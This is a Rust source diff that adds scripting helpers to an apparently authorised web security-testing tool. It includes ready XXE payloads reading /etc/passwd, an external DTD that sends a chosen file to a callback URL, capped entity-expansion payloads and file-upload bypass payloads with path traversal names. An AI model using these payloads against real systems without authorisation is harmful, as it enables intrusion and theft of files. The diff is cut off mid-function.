@@ -1,9 +1,23 @@
-use std::{collections::HashMap, sync::Arc};
+use std::cell::RefCell;
+use std::collections::HashMap;
+use std::fmt::Write;
+use std::sync::atomic::{AtomicI64, Ordering};
+use std::sync::{Arc, Mutex, OnceLock};
 
+use base64::prelude::{BASE64_STANDARD, BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE_NO_PAD};
+use base64::Engine;
 use cel_interpreter::extractors::This;
+use cel_interpreter::objects::Key;
 use cel_interpreter::{FunctionContext, ResolveResult, Value};
+use chrono::{DateTime, FixedOffset, TimeDelta, Utc};
+use hmac::{Hmac, Mac};
+use md5::Md5;
 
-use rand::Rng;
+use rand::rngs::StdRng;
+use rand::seq::SliceRandom;
+use rand::{thread_rng, Rng, SeedableRng};
+use sha1::Sha1;
+use sha2::{Digest, Sha256};
 use sprintf::{vsprintf, Printf, PrintfError};
 use url::Url;
 
@@ -75,7 +89,7 @@ pub fn random_duration(
     max: i64,
     unit: Arc<String>,
 ) -> Result<Value> {
-    let val = rand::thread_rng().gen_range(min..max);
+    let val = with_rng(|rng| rng.gen_range(min..max));
     Ok(Value::Duration(match unit.as_str() {
         "d" => chrono::Duration::days(val),
         "h" => chrono::Duration::hours(val),
@@ -89,11 +103,377 @@ pub fn random_duration(
 }
 
 pub fn random_int(ftx: &FunctionContext, min: i64, max: i64) -> Result<Value> {
-    Ok(cel_interpreter::Value::Int(
-        rand::thread_rng().gen_range(min..max),
+    Ok(cel_interpreter::Value::Int(with_rng(|rng| {
+        rng.gen_range(min..max)
+    })))
+}
+
+/// What the stateful functions keep for one plan run. Each executor has its own, shared with the
+/// modules, sessions and logins it runs, so other runs in the same process don't see it.
+#[derive(Debug)]
+pub struct CelState {
+    /// The generator behind every random function, shared so a seed makes a whole run
+    /// repeatable.
+    rng: Mutex<StdRng>,
+    /// A fixed time for now() to return, set with devil.now to make time dependent plans
+    /// repeatable.
+    now: Option<DateTime<FixedOffset>>,
+    /// Mean response timings from an earlier run, keyed by step and phase.
+    baseline: Mutex<HashMap<(String, String), TimeDelta>>,
+    /// Named counters, shared with modules and session users so they stay unique across
+    /// parallel jobs.
+    counters: Mutex<HashMap<String, Arc<AtomicI64>>>,
+    /// Every marker handed out by marker() in the run.
+    markers: Mutex<Vec<Arc<String>>>,
+}
+
+impl Default for CelState {
+    fn default() -> Self {
+        Self::new(None, None)
+    }
+}
+
+impl CelState {
+    pub(crate) fn new(seed: Option<u64>, now: Option<DateTime<FixedOffset>>) -> Self {
+        Self {
+            rng: Mutex::new(seed.map_or_else(StdRng::from_entropy, StdRng::seed_from_u64)),
+            now,
+            baseline: Mutex::default(),
+            counters: Mutex::default(),
+            markers: Mutex::default(),
+        }
+    }
+
+    pub(crate) fn markers(&self) -> Vec<Arc<String>> {
+        self.markers.lock().unwrap().clone()
+    }
+
+    #[cfg(feature = "native")]
+    pub(crate) fn set_baseline(&self, timings: HashMap<(String, String), TimeDelta>) {
+        *self.baseline.lock().unwrap() = timings;
+    }
+
+    pub(crate) fn with_rng<T>(&self, f: impl FnOnce(&mut StdRng) -> T) -> T {
+        f(&mut self.rng.lock().unwrap())
+    }
+
+    /// Run `f`, which evaluates CEL, with this state available to the functions it calls.
+    pub(crate) fn enter<T>(self: &Arc<Self>, f: impl FnOnce() -> T) -> T {
+        let previous = CURRENT.with(|current| current.replace(Some(self.clone())));
+        let _restore = scopeguard::guard(previous, |previous| {
+            CURRENT.with(|current| *current.borrow_mut() = previous);
+        });
+        f()
+    }
+}
+
+thread_local! {
+    /// The state of the run evaluating CEL on this thread. Evaluation doesn't yield, so it can't
+    /// be seen by other tasks.
+    static CURRENT: RefCell<Option<Arc<CelState>>> = const { RefCell::new(None) };
+}
+
+/// The state of the run evaluating the calling function, or a new one when called outside a run.
+fn current() -> Arc<CelState> {
+    CURRENT.with(|current| current.borrow().clone().unwrap_or_default())
+}
+
+fn with_rng<T>(f: impl FnOnce(&mut StdRng) -> T) -> T {
+    current().with_rng(f)
+}
+
+/// Returns a random version 4 UUID.
+pub fn uuid() -> Arc<String> {
+    let mut b: [u8; 16] = with_rng(|rng| rng.gen());
+    b[6] = (b[6] & 0x0f) | 0x40;
+    b[8] = (b[8] & 0x3f) | 0x80;
+    let hex = |bytes: &[u8]| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
+    Arc::new(format!(
+        "{}-{}-{}-{}-{}",
+        hex(&b[..4]),
+        hex(&b[4..6]),
+        hex(&b[6..8]),
+        hex(&b[8..10]),
+        hex(&b[10..]),
     ))
 }
 
+pub fn random_bytes(len: i64) -> Arc<Vec<u8>> {
+    Arc::new(with_rng(|rng| (0..len).map(|_| rng.gen()).collect()))
+}
+
+/// Returns `len` random characters from `alphabet`.
+fn random_chars(alphabet: &[u8], len: i64) -> Arc<String> {
+    Arc::new(with_rng(|rng| choose_chars(rng, alphabet, len)))
+}
+
+fn choose_chars(rng: &mut impl Rng, alphabet: &[u8], len: i64) -> String {
+    (0..len)
+        .map(|_| char::from(*alphabet.choose(rng).unwrap()))
+        .collect()
+}
+
+/// Returns a random lowercase hex string of `len` characters.
+pub fn random_hex(len: i64) -> Arc<String> {
+    random_chars(b"0123456789abcdef", len)
+}
+
+/// Returns `len` random characters from the URL safe base64 alphabet.
+pub fn random_base64(len: i64) -> Arc<String> {
+    random_chars(
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
+        len,
+    )
+}
+
+const LOREM: &[&str] = &[
+    "lorem",
+    "ipsum",
+    "dolor",
+    "sit",
+    "amet",
+    "consectetur",
+    "adipiscing",
+    "elit",
+    "sed",
+    "do",
+    "eiusmod",
+    "tempor",
+    "incididunt",
+    "ut",
+    "labore",
+    "et",
+    "dolore",
+    "magna",
+    "aliqua",
+    "enim",
+    "ad",
+    "minim",
+    "veniam",
+    "quis",
+    "nostrud",
+    "exercitation",
+    "ullamco",
+    "laboris",
+    "nisi",
+    "aliquip",
+    "ex",
+    "ea",
+    "commodo",
+    "consequat",
+];
+
+const FIRST_NAMES: &[&str] = &[
+    "James", "Mary", "Wei", "Fatima", "Carlos", "Aisha", "Liam", "Sofia", "Hiroshi", "Olga",
+    "Kwame", "Priya", "Mateo", "Chloe", "Dmitri", "Amara",
+];
+
+const LAST_NAMES: &[&str] = &[
+    "Smith", "Garcia", "Chen", "Khan", "Okafor", "Muller", "Rossi", "Tanaka", "Silva", "Novak",
+    "Johnson", "Patel", "Kim", "Nguyen", "Cohen", "Larsen",
+];
+
+/// Returns `words` words of lorem ipsum text.
+pub fn lorem(words: i64) -> Arc<String> {
+    Arc::new(with_rng(|rng| {
+        (0..words)
+            .map(|_| *LOREM.choose(rng).unwrap())
+            .collect::<Vec<_>>()
+            .join(" ")
+    }))
+}
+
+/// Returns a random first and last name.
+pub fn random_name() -> Arc<String> {
+    Arc::new(with_rng(|rng| {
+        format!(
+            "{} {}",
+            FIRST_NAMES.choose(rng).unwrap(),
+            LAST_NAMES.choose(rng).unwrap()
+        )
+    }))
+}
+
+/// Returns a random address at one of the domains reserved for examples, so nothing is ever
+/// delivered to a real mailbox.
+pub fn random_email() -> Arc<String> {
+    Arc::new(with_rng(|rng| {
+        format!(
+            "{}.{}{}@{}",
+            FIRST_NAMES.choose(rng).unwrap().to_lowercase(),
+            LAST_NAMES.choose(rng).unwrap().to_lowercase(),
+            rng.gen_range(1..10_000),
+            ["example.com", "example.net", "example.org"]
+                .choose(rng)
+                .unwrap(),
+        )
+    }))
+}
+
+pub fn now() -> Value {
+    let now = current().now.unwrap_or_else(|| Utc::now().fixed_offset());
+    Value::Timestamp(now)
+}
+
+/// Accepts a timestamp or an RFC 3339 string.
+fn timestamp(ftx: &FunctionContext, value: Value) -> Result<DateTime<FixedOffset>> {
+    match value {
+        Value::Timestamp(t) => Ok(t),
+        Value::String(s) => DateTime::parse_from_rfc3339(&s)
+            .map_err(|e| ftx.error(format!("parse timestamp {s:?}: {e}"))),
+        _ => Err(ftx.error("expected a timestamp or RFC 3339 string")),
+    }
+}
+
+/// Formats a time with a strftime style format, or as `rfc3339` or `rfc2822` (for HTTP dates
+/// and cookies).
+pub fn format_time(ftx: &FunctionContext, time: Value, format: Arc<String>) -> Result<Arc<String>> {
+    let time = timestamp(ftx, time)?;
+    Ok(Arc::new(match format.as_str() {
+        "rfc3339" => time.to_rfc3339(),
+        "rfc2822" => time.to_rfc2822(),
+        format => {
+            // Writing rather than to_string() so invalid formats are errors instead of panics.
+            let mut out = String::new();
+            write!(out, "{}", time.format(format))
+                .map_err(|_| ftx.error(format!("invalid time format {format:?}")))?;
+            out
+        }
+    }))
+}
+
+/// Parses a time with a strftime style format that includes an offset, or as `rfc3339` or
+/// `rfc2822`.
+pub fn parse_time(ftx: &FunctionContext, time: Arc<String>, format: Arc<String>) -> ResolveResult {
+    let parsed = match format.as_str() {
+        "rfc3339" => DateTime::parse_from_rfc3339(&time),
+        "rfc2822" => DateTime::parse_from_rfc2822(&time),
+        format => DateTime::parse_from_str(&time, format),
+    };
+    parsed
+        .map(Value::Timestamp)
+        .map_err(|e| ftx.error(format!("parse time {time:?}: {e}")))
+}
+
+/// Adds a duration to a time. Negative durations give times in the past, like for expired tokens.
+pub fn add_duration(ftx: &FunctionContext, time: Value, duration: Value) -> ResolveResult {
+    let time = timestamp(ftx, time)?;
+    let Value::Duration(duration) = duration else {
+        return Err(ftx.error("expected a duration"));
+    };
+    time.checked_add_signed(duration)
+        .map(Value::Timestamp)
+        .ok_or_else(|| ftx.error("time out of range"))
+}
+
+/// Returns seconds since the Unix epoch, like JWT `exp` and `iat` claims use.
+pub fn unix_time(ftx: &FunctionContext, time: Value) -> ResolveResult {
+    Ok(Value::Int(timestamp(ftx, time)?.timestamp()))
+}
+
+pub fn from_unix(ftx: &FunctionContext, secs: i64) -> ResolveResult {
+    DateTime::from_timestamp(secs, 0)
+        .map(|t| Value::Timestamp(t.fixed_offset()))
+        .ok_or_else(|| ftx.error("time out of range"))
+}
+
+/// Accepts a duration, or a duration output as seconds and nanoseconds.
+fn duration(ftx: &FunctionContext, value: &Value) -> Result<TimeDelta> {
+    let field = |m: &cel_interpreter::objects::Map, key: &str| match m.map.get(&Key::from(key)) {
+        Some(Value::Int(n)) => Some(*n),
+        Some(Value::UInt(n)) => i64::try_from(*n).ok(),
+        _ => None,
+    };
+    match value {
+        Value::Duration(d) => Ok(*d),
+        Value::Map(m) => field(m, "secs")
+            .zip(field(m, "nanos"))
+            .and_then(|(secs, nanos)| {
+                TimeDelta::try_seconds(secs)?.checked_add(&TimeDelta::nanoseconds(nanos))
+            })
+            .ok_or_else(|| ftx.error("expected a duration")),
+        _ => Err(ftx.error("expected a duration")),
+    }
+}
+
+/// Whether a duration is within `tolerance` of a reference duration, as a fraction of the
+/// reference, like `duration_within(steps.b.response.time_to_first_byte,
+/// steps.a.response.time_to_first_byte, 0.2)` for within 20%.
+pub fn duration_within(
+    ftx: &FunctionContext,
+    actual: Value,
+    reference: Value,
+    tolerance: f64,
+) -> Result<bool> {
+    let nanos = |d: TimeDelta| d.num_nanoseconds().map_or(f64::MAX, |n| n as f64);
+    let actual = nanos(duration(ftx, &actual)?);
+    let reference = nanos(duration(ftx, &reference)?);
+    Ok((actual - reference).abs() <= reference * tolerance)
+}
+
+/// Returns the mean of a timing phase, like `time_to_first_byte` or `duration`, across a step's
+/// responses in the baseline run, or null if the baseline has none. Compare it with the current
+/// run's timing using duration_within.
+pub fn baseline_timing(step: Arc<String>, phase: Arc<String>) -> Value {
+    current()
+        .baseline
+        .lock()
+        .unwrap()
+        .get(&(step.to_string(), phase.to_string()))
+        .map_or(Value::Null, |timing| Value::Duration(*timing))
+}
+
+/// Looks up one of the run's named counters, which start from zero in each run.
+fn counter(name: &str) -> Arc<AtomicI64> {
+    current()
+        .counters
+        .lock()
+        .unwrap()
+        .entry(name.to_owned())
+        .or_default()
+        .clone()
+}
+
+/// Increments a counter, returning the new value. The first call for a name returns 1.
+pub fn counter_next(name: Arc<String>) -> Value {
+    Value::Int(
+        counter(&name)
+            .fetch_add(1, Ordering::SeqCst)
+            .wrapping_add(1),
+    )
+}
+
+/// Adds to a counter, returning the new total.
+pub fn counter_add(name: Arc<String>, delta: i64) -> Value {
+    Value::Int(
+        counter(&name)
+            .fetch_add(delta, Ordering::SeqCst)
+            .wrapping_add(delta),
+    )
+}
+
+pub fn counter_get(name: Arc<String>) -> Value {
+    Value::Int(counter(&name).load(Ordering::SeqCst))
+}
+
+/// Returns a unique alphanumeric token to place in a request. Responses are searched for every
+/// marker handed out in the run, so reflections can be traced back to the step that sent them.
+/// Markers are random even when devil.seed is set, so they never repeat across runs.
+pub fn marker() -> Arc<String> {
+    let alphabet = b"0123456789abcdefghijklmnopqrstuvwxyz";
+    let marker = Arc::new(format!(
+        "dvl{}",
+        choose_chars(&mut thread_rng(), alphabet, 12)
+    ));
+    current().markers.lock().unwrap().push(marker.clone());
+    marker
+}
+
+/// Looks up a secret by name from the configured providers, so plans don't contain credentials.
+pub fn secret(ftx: &FunctionContext, name: Arc<String>) -> Result<Arc<String>> {
+    crate::secret::resolve(&name).map_err(|e| ftx.error(format!("{e:#}")))
+}
+
 pub fn printf(ftx: &FunctionContext, format: Arc<String>) -> Result<Arc<String>> {
     let args = ftx
         .args
@@ -135,3 +515,1053 @@ impl Printf for FormatValue {
         }
     }
 }
+
+/// Returns the base64 NTLM negotiate message to send as `Authorization: NTLM <message>`.
+pub fn ntlm_negotiate() -> Arc<String> {
+    Arc::new(BASE64_STANDARD.encode(crate::ntlm::negotiate()))
+}
+
+/// Answers an NTLM challenge. The challenge can be the WWW-Authenticate header value, with or
+/// without the scheme, or a list of response headers to search for it.
+pub fn ntlm_authenticate(
+    ftx: &FunctionContext,
+    challenge: Value,
+    username: Arc<String>,
+    password: Arc<String>,
+    domain: Arc<String>,
+) -> Result<Arc<String>> {
+    let header = match challenge {
+        Value::String(s) => s,
+        Value::List(headers) => headers
+            .iter()
+            .filter_map(|h| {
+                let Value::Map(h) = h else {
+                    return None;
+                };
+                let utf8 = |field: &str| match h.map.get(&Key::from(field))? {
+                    Value::Map(m) => match m.map.get(&Key::from("utf8"))? {
+                        Value::String(s) => Some(s.clone()),
+                        _ => None,
+                    },
+                    _ => None,
+                };
+                utf8("key")
+                    .filter(|k| k.eq_ignore_ascii_case("www-authenticate"))
+                    .and(utf8("value"))
+            })
+            .find(|v| v.starts_with("NTLM ") || v.starts_with("Negotiate "))
+            .ok_or_else(|| ftx.error("no NTLM challenge in headers"))?,
+        _ => return Err(ftx.error("challenge must be a string or list of headers")),
+    };
+    let encoded = header
+        .strip_prefix("NTLM ")
+        .or_else(|| header.strip_prefix("Negotiate "))
+        .unwrap_or(&header)
+        .trim();
+    let challenge = BASE64_STANDARD
+        .decode(encoded)
+        .map_err(|e| ftx.error(format!("decode NTLM challenge: {e}")))?;
+    let challenge = crate::ntlm::Challenge::parse(&challenge)
+        .map_err(|e| ftx.error(format!("parse NTLM challenge: {e}")))?;
+    let msg = crate::ntlm::authenticate(&challenge, &username, &password, &domain, "")
+        .map_err(|e| ftx.error(format!("build NTLM response: {e}")))?;
+    Ok(Arc::new(BASE64_STANDARD.encode(msg)))
+}
+
+/// Escapes text for use in XML content or attribute values.
+pub(crate) fn xml_escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&apos;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Wraps `body` in a SOAP envelope. Options may set `version` to "1.1" (the default) or "1.2",
+/// `namespaces` to a map of extra prefixes to declare on the envelope, and `header` to the XML
+/// for the SOAP header, like the result of wsse_username_token.
+pub fn soap_envelope(
+    ftx: &FunctionContext,
+    body: Arc<String>,
+    options: Value,
+) -> Result<Arc<String>> {
+    let Value::Map(options) = options else {
+        return Err(ftx.error("soap_envelope options must be a map"));
+    };
+    let string = |name: &str| match options.map.get(&Key::from(name)) {
+        None | Some(Value::Null) => Ok(None),
+        Some(Value::String(s)) => Ok(Some(s.clone())),
+        Some(_) => Err(ftx.error(format!("soap_envelope option {name} must be a string"))),
+    };
+    let ns = match string("version")?.as_deref().map(String::as_str) {
+        None | Some("1.1") => "http://schemas.xmlsoap.org/soap/envelope/",
+        Some("1.2") => "http://www.w3.org/2003/05/soap-envelope",
+        Some(v) => return Err(ftx.error(format!("unsupported SOAP version {v:?}"))),
+    };
+    let mut out = String::from(r#"<?xml version="1.0" encoding="utf-8"?>"#);
+    write!(out, r#"<soap:Envelope xmlns:soap="{ns}""#).unwrap();
+    match options.map.get(&Key::from("namespaces")) {
+        None | Some(Value::Null) => {}
+        Some(Value::Map(namespaces)) => {
+            for (prefix, uri) in namespaces.map.iter() {
+                let (Key::String(prefix), Value::String(uri)) = (prefix, uri) else {
+                    return Err(ftx.error("soap_envelope namespaces must map strings to strings"));
+                };
+                write!(out, r#" xmlns:{prefix}="{}""#, xml_escape(uri)).unwrap();
+            }
+        }
+        Some(_) => return Err(ftx.error("soap_envelope option namespaces must be a map")),
+    }
+    out.push('>');
+    if let Some(header) = string("header")? {
+        write!(out, "<soap:Header>{header}</soap:Header>").unwrap();
+    }
+    write!(out, "<soap:Body>{body}</soap:Body></soap:Envelope>").unwrap();
+    Ok(Arc::new(out))
+}
+
+/// Returns a WS-Security header with a UsernameToken. With `digest` the password is sent as
+/// Base64(SHA-1(nonce + created + password)) instead of in plain text.
+pub fn wsse_username_token(
+    username: Arc<String>,
+    password: Arc<String>,
+    digest: bool,
+) -> Arc<String> {
+    const WSSE: &str =
+        "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
+    const WSU: &str =
+        "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
+    const TOKEN_PROFILE: &str =
+        "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0";
+    let Value::Timestamp(now) = now() else {
+        unreachable!("now always returns a timestamp");
+    };
+    let created = now
+        .with_timezone(&Utc)
+        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
+        .to_string();
+    let nonce = random_bytes(16);
+    let (kind, password) = if digest {
+        let mut hash = Sha1::new();
+        hash.update(nonce.as_slice());
+        hash.update(created.as_bytes());
+        hash.update(password.as_bytes());
+        ("PasswordDigest", BASE64_STANDARD.encode(hash.finalize()))
+    } else {
+        ("PasswordText", password.to_string())
+    };
+    Arc::new(format!(
+        concat!(
+            r#"<wsse:Security xmlns:wsse="{wsse}" xmlns:wsu="{wsu}" soap:mustUnderstand="1">"#,
+            "<wsse:UsernameToken><wsse:Username>{username}</wsse:Username>",
+            r#"<wsse:Password Type="{profile}#{kind}">{password}</wsse:Password>"#,
+            r#"<wsse:Nonce EncodingType="{security}#Base64Binary">{nonce}</wsse:Nonce>"#,
+            "<wsu:Created>{created}</wsu:Created></wsse:UsernameToken></wsse:Security>",
+        ),
+        wsse = WSSE,
+        wsu = WSU,
+        username = xml_escape(&username),
+        profile = TOKEN_PROFILE,
+        kind = kind,
+        password = xml_escape(&password),
+        security =
+            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0",
+        nonce = BASE64_STANDARD.encode(nonce.as_slice()),
+        created = created,
+    ))
+}
+
+/// Adds a random correlation token to a callback URL, so out of band interactions can be
+/// matched to the payload that caused them.
+fn tag_callback(callback: &str) -> (String, String) {
+    let token = random_hex(16).to_string();
+    let sep = if callback.contains('?') { '&' } else { '?' };
+    (format!("{callback}{sep}devil={token}"), token)
+}
+
+/// Returns XXE payloads as maps with a `name`, a `body`, and the correlation `token` added to
+/// `callback` for out of band variants. Local file variants have an empty token since they only
+/// show up in the response.
+pub fn xxe_payloads(This(callback): This<Arc<String>>) -> Arc<Vec<Value>> {
+    const DECL: &str = r#"<?xml version="1.0"?>"#;
+    let payload = |name: &str, body: Value, token: String| {
+        Value::Map(cel_interpreter::objects::Map {
+            map: Arc::new(HashMap::from([
+                ("name".into(), name.into()),
+                ("body".into(), body),
+                ("token".into(), token.into()),
+            ])),
+        })
+    };
+    let mut out = Vec::new();
+    for (name, file) in [
+        ("file_unix", "file:///etc/passwd"),
+        ("file_windows", "file:///c:/windows/win.ini"),
+    ] {
+        let body = format!(r#"{DECL}<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]><r>&x;</r>"#);
+        out.push(payload(name, body.into(), String::new()));
+    }
+    let oob: [(&str, fn(&str) -> String); 5] = [
+        ("oob_entity", |url| {
+            format!(r#"{DECL}<!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]><r>&x;</r>"#)
+        }),
+        ("oob_parameter_entity", |url| {
+            format!(r#"{DECL}<!DOCTYPE r [<!ENTITY % x SYSTEM "{url}"> %x;]><r/>"#)
+        }),
+        ("oob_external_dtd", |url| {
+            format!(r#"{DECL}<!DOCTYPE r SYSTEM "{url}"><r/>"#)
+        }),
+        ("oob_public_dtd", |url| {
+            format!(r#"{DECL}<!DOCTYPE r PUBLIC "-//devil//xxe//EN" "{url}"><r/>"#)
+        }),
+        ("oob_xinclude", |url| {
+            format!(
+                r#"<r xmlns:xi="{}"><xi:include parse="text" href="{url}"/></r>"#,
+                "http://www.w3.org/2001/XInclude",
+            )
+        }),
+    ];
+    for (name, build) in oob {
+        let (url, token) = tag_callback(&callback);
+        out.push(payload(name, build(&xml_escape(&url)).into(), token));
+    }
+    // Some filters only inspect UTF-8 bodies.
+    let (url, token) = tag_callback(&callback);
+    let url = xml_escape(&url);
+    let body = format!(
+        r#"<?xml version="1.0" encoding="UTF-16LE"?>{}"#,
+        format_args!(r#"<!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]><r>&x;</r>"#),
+    );
+    let body: Vec<u8> = body.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    out.push(payload("oob_utf16", Value::Bytes(Arc::new(body)), token));
+    Arc::new(out)
+}
+
+/// Returns an external DTD to host at a URL used by an XXE payload. When loaded it reads `file`
+/// and sends it to `callback` in the `data` query parameter.
+pub fn xxe_exfil_dtd(callback: Arc<String>, file: Arc<String>) -> Arc<String> {
+    let (url, _) = tag_callback(&callback);
+    Arc::new(format!(
+        concat!(
+            r#"<!ENTITY % file SYSTEM "file://{file}">"#,
+            r#"<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '{url}&amp;data=%file;'>">"#,
+            "%wrap;%send;",
+        ),
+        file = xml_escape(&file),
+        url = xml_escape(&url),
+    ))
+}
+
+/// The most entity expansions xml_billion_laughs will generate, so payloads can show whether a
+/// parser expands entities without exhausting the target.
+const MAX_ENTITY_EXPANSIONS: i64 = 1_000_000;
+
+/// Returns a nested entity expansion payload where each of `depth` levels references the
+/// previous one `width` times.
+pub fn xml_billion_laughs(ftx: &FunctionContext, depth: i64, width: i64) -> Result<Arc<String>> {
+    if !(1..=10).contains(&depth) || !(1..=10).contains(&width) {
+        return Err(ftx.error("xml_billion_laughs depth and width must be between 1 and 10"));
+    }
+    let expansions = width.checked_pow(u32::try_from(depth).unwrap());
+    if expansions.map_or(true, |e| e > MAX_ENTITY_EXPANSIONS) {
+        return Err(ftx.error(format!(
+            "xml_billion_laughs is capped at {MAX_ENTITY_EXPANSIONS} expansions, \
+             {width}^{depth} is too many",
+        )));
+    }
+    let mut out = String::from(r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">"#);
+    for level in 1..=depth {
+        write!(out, r#"<!ENTITY l{level} ""#).unwrap();
+        for _ in 0..width {
+            write!(out, "&l{};", level - 1).unwrap();
+        }
+        out.push_str(r#"">"#);
+    }
+    write!(out, "]><r>&l{depth};</r>").unwrap();
+    Ok(Arc::new(out))
+}
+
+/// Encodes parts as a multipart/form-data body. Each part is a map with a `name` and a `body`
+/// of string or bytes, and optionally a `filename` and `content_type`. Send it with a
+/// `multipart/form-data; boundary=...` content type using the same boundary.
+pub fn multipart_form(
+    ftx: &FunctionContext,
+    boundary: Arc<String>,
+    parts: Value,
+) -> Result<Arc<Vec<u8>>> {
+    let Value::List(parts) = parts else {
+        return Err(ftx.error("multipart_form parts must be a list"));
+    };
+    // Browsers percent-encode these in names and filenames, so do the same to keep the part
+    // headers intact.
+    let quote = |s: &str| {
+        s.replace('"', "%22")
+            .replace('\r', "%0D")
+            .replace('\n', "%0A")
+    };
+    let mut out = Vec::new();
+    for part in parts.iter() {
+        let Value::Map(part) = part else {
+            return Err(ftx.error("multipart_form parts must be maps"));
+        };
+        let field = |name: &str| part.map.get(&Key::from(name));
+        let Some(Value::String(name)) = field("name") else {
+            return Err(ftx.error("multipart_form parts need a string name"));
+        };
+        let body = body_bytes(ftx, field("body").cloned().unwrap_or(Value::Null))?;
+        let disposition = format!(
+            "--{boundary}\r\nContent-Disposition: form-data; name=\"{}\"",
+            quote(name),
+        );
+        out.extend_from_slice(disposition.as_bytes());
+        match field("filename") {
+            None | Some(Value::Null) => {}
+            Some(Value::String(filename)) => {
+                out.extend_from_slice(format!("; filename=\"{}\"", quote(filename)).as_bytes());
+            }
+            Some(_) => return Err(ftx.error("multipart_form filename must be a string")),
+        }
+        match field("content_type") {
+            None | Some(Value::Null) => {}
+            Some(Value::String(content_type)) => {
+                out.extend_from_slice(format!("\r\nContent-Type: {content_type}").as_bytes());
+            }
+            Some(_) => return Err(ftx.error("multipart_form content_type must be a string")),
+        }
+        out.extend_from_slice(b"\r\n\r\n");
+        out.extend_from_slice(&body);
+        out.extend_from_slice(b"\r\n");
+    }
+    out.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
+    Ok(Arc::new(out))
+}
+
+/// The marker upload payloads try to get executed or served, so it's easy to search for.
+const UPLOAD_MARKER: &str = "devil-upload-7c1f";
+
+fn upload(technique: &str, filename: &str, content_type: &str, body: Vec<u8>) -> Value {
+    Value::Map(cel_interpreter::objects::Map {
+        map: Arc::new(HashMap::from([
+            ("technique".into(), technique.into()),
+            ("filename".into(), filename.into()),
+            ("content_type".into(), content_type.into()),
+            ("body".into(), Value::Bytes(Arc::new(body))),
+        ])),
+    })
+}
+
+/// Returns file upload payloads as maps with the `technique` used and the `filename`,
+/// `content_type`, and `body` to send in a multipart_form part.
+pub fn upload_payloads() -> Arc<Vec<Value>> {
+    let php = format!("<?php echo '{UPLOAD_MARKER}'; ?>");
+    let gif = [b"GIF89a".as_slice(), php.as_bytes()].concat();
+    // A minimal JPEG start of image and JFIF header with the script in a comment segment.
+    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00".to_vec();
+    jpeg.extend_from_slice(b"\xff\xfe");
+    jpeg.extend_from_slice(&u16::try_from(php.len() + 2).unwrap().to_be_bytes());
+    jpeg.extend_from_slice(php.as_bytes());
+    jpeg.extend_from_slice(b"\xff\xd9");
+    let html = format!("<html><body><script>alert('{UPLOAD_MARKER}')</script></body></html>");
+    let svg = format!(
+        concat!(
+            r#"<svg xmlns="http://www.w3.org/2000/svg">"#,
+            "<script>alert('{}')</script></svg>",
+        ),
+        UPLOAD_MARKER,
+    );
+    let text = UPLOAD_MARKER.as_bytes().to_vec();
+    let long_name = format!("{}.jpg", "A".repeat(251));
+    Arc::new(vec![
+        upload("gif_php_polyglot", "image.php", "image/gif", gif.clone()),
+        upload("jpeg_php_polyglot", "image.php", "image/jpeg", jpeg.clone()),
+        upload(
+            "double_extension",
+            "image.jpg.php",
+            "image/jpeg",
+            jpeg.clone(),
+        ),
+        upload(
+            "reverse_double_extension",
+            "image.php.jpg",
+            "image/jpeg",
+            jpeg.clone(),
+        ),
+        upload(
+            "null_byte_extension",
+            "image.php\0.jpg",
+            "image/jpeg",
+            jpeg.clone(),
+        ),
+        upload("case_extension", "image.pHp", "image/jpeg", jpeg.clone()),
+        upload(
+            "alternate_extension",
+            "image.phtml",
+            "image/jpeg",
+            jpeg.clone(),
+        ),
+        upload(
+            "trailing_dot_extension",
+            "image.php.",
+            "image/gif",
+            gif.clone(),
+        ),
+        upload(
+            "content_type_mismatch",
+            "image.jpg",
+            "text/html",
+            html.clone().into_bytes(),
+        ),
+        upload(
+            "html_as_image",
+            "image.jpg",
+            "image/jpeg",
+            html.into_bytes(),
+        ),
+        upload("svg_script", "image.svg", "image/svg+xml", svg.into_bytes()),
+        upload(
+            "htaccess",
+            ".htaccess",
+            "text/plain",
+            b"AddType application/x-httpd-php .jpg\n".to_vec(),
+        ),
+        upload(
+            "path_traversal",
+            "../../../../tmp/devil.txt",
+            "text/plain",
+            text.clone(),
+        ),
+        upload(
+            "path_traversal_encoded",
+            "..%2f..%2f..%2f..%2ftmp%2fdevil.txt",
+            "text/plain",
+            text.clone(),
+        ),
+        upload(
+            "path_traversal_windows",
+            "..\\..\\..\\..\\windows\\temp\\devil.txt",
+            "text/plain",
+            text.clone(),
+        ),
+        upload(
+            "absolute_path",
+            "/tmp/devil.txt",
+            "text/plain",
+            text.clone(),
+        ),
+        upload("long_filename", &long_name, "image/jpeg", jpeg),
+        upload("empty_filename", "", "text/plain", text),
+    ])
+}
+
+/// The largest body upload_oversized will build, since bodies are held in memory.
+const MAX_UPLOAD_SIZE: i64 = 256 << 20;
+
+/// Returns an upload payload with a GIF header padded to `size` bytes, for probing upload size
+/// limits.
+pub fn upload_oversized(ftx: &FunctionContext, size: i64) -> Result<Value> {
+    if !(6..=MAX_UPLOAD_SIZE).contains(&size) {
+        return Err(ftx.error(format!(
+            "upload_oversized size must be between 6 and {MAX_UPLOAD_SIZE} bytes",
+        )));
+    }
+    let mut body = b"GIF89a".to_vec();
